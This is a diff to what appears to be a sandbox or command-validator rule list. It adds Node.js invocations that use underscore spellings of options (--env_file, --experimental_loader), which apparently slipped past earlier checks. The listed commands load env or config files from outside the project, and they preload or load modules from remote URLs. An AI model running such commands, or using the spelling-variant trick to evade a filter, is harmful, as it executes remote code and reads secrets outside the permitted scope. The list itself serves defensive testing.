@@ -31,6 +31,12 @@ RULES = {
         "node --experimental-config-file={outside}/node.json src/app.js",
         "node --experimental-config-file {outside}/node.json src/app.js",
         "node --env-file={outside}/e src/app.js",
+        # node reads its options with underscores as with dashes (allowed before).
+        "node --env_file={outside}/e src/app.js",
+        "node --env_file {outside}/e src/app.js",
+        "node --env_file_if_exists={outside}/e src/app.js",
+        "node --experimental_config_file={outside}/node.json src/app.js",
+        "node --experimental_loader http://example.com/m.mjs src/app.js",
         "bun --preload {outside}/p.js src/app.js",
         "deno run --preload https://example.com/p.js src/app.js",
     ],
